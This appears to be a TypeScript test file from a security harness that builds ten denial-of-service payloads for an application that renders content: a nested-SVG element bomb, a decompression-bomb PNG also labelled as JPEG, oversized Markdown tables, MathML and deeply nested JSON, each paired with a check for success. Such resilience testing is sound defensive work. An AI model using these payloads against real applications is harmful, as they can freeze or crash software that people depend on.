// Attacks by content that a host draws itself, without a view: small on the wire and large on the screen.
import { deflateSync } from 'node:zlib';
import type { Attack, Evidence } from '../attack.ts';
import { floods, ofClass, pauses } from './define.ts';

const define = ofClass('content', 'host');

const attack = (
  id: string,
  title: string,
  content: readonly Record<string, unknown>[],
  breach: (evidence: Evidence) => boolean,
): Attack => define(id, title, { form: 'content', content, breach, exclusive: true, settleMs: 2000 });

const decodes = ({ after }: Evidence): boolean => after.pixels > 100_000_000;
const prints = ({ after }: Evidence): boolean => after.text.length > 100_000;

/** Levels of ten `<use>`: seven are ten million elements. */
const nested = (levels: number): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100"><defs><rect id="l0" width="1" height="1"/>${Array.from(
    { length: levels },
    (_, level) => `<g id="l${level + 1}">${`<use href="#l${level}"/>`.repeat(10)}</g>`,
  ).join('')}</defs><use href="#l${levels}"/></svg>`;
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const image = (mimeType: string, data: string) => ({ type: 'image', mimeType, data });
const text = (value: string) => ({ type: 'text', text: value });

function chunk(type: string, data: Buffer): Buffer {
  const chunkBody = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const ends = Buffer.alloc(8);
  ends.writeUInt32BE(data.length);
  ends.writeUInt32BE(crc32(chunkBody), 4);
  return Buffer.concat([ends.subarray(0, 4), chunkBody, ends.subarray(4)]);
}

function crc32(bytes: Buffer): number {
  let crc = ~0;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0);
  }
  return ~crc >>> 0;
}

/** A PNG of one bit a pixel, in one colour. */
function png(side: number): string {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header[8] = 1;
  const rows = deflateSync(Buffer.alloc((side / 8 + 1) * side));
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', header),
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  ]).toString('base64');
}

const row = (cells: number): string => `|${'a|'.repeat(cells)}`;

export const ATTACKS: readonly Attack[] = [
  attack('rc01', 'an SVG of seven levels of ten uses', [image('image/svg+xml', base64(nested(7)))], pauses),
  attack(
    'rc02',
    'one of six levels, its type in capitals and with a parameter',
    [image('IMAGE/SVG+XML;charset=utf-8', base64(nested(6)))],
    pauses,
  ),
  attack(
    'rc03',
    'one of six levels as a picture in Markdown',
    [text(`# A picture\n\nThis is **a picture**.\n\n![](data:image/svg+xml;base64,${base64(nested(6))})`)],
    pauses,
  ),
  attack('rc04', 'a PNG of 144 million pixels in 20 KB', [image('image/png', png(12_000))], decodes),
  attack('rc05', 'the same PNG, labelled as a JPEG', [image('image/jpeg', png(12_000))], decodes),
  attack(
    'rc06',
    'a table of 57,600 cells',
    [
      text(
        [row(480), `|${'---|'.repeat(480)}`, ...Array.from({ length: 120 }, () => row(480))]
          .join('\n')
          .slice(0, 130_000),
      ),
    ],
    floods,
  ),
  attack('rc07', 'a text of 120,000 characters without a break', [text('x'.repeat(120_000))], prints),
  attack(
    'rc08',
    'a MathML formula of 60,000 elements',
    [text(`<math>${'<mi>x</mi>'.repeat(60_000)}</math>`.slice(0, 700_000))],
    floods,
  ),
  attack(
    'rc09',
    '400 parts of 200 elements each',
    Array.from({ length: 400 }, () => text([row(50), `|${'---|'.repeat(50)}`, row(50), row(50)].join('\n'))),
    floods,
  ),
  attack(
    'rc10',
    '40 KB of JSON that is 20 MB when it is indented',
    [text(`${'['.repeat(500)}${'0,'.repeat(20_000)}0${']'.repeat(500)}`)],
    prints,
  ),
];
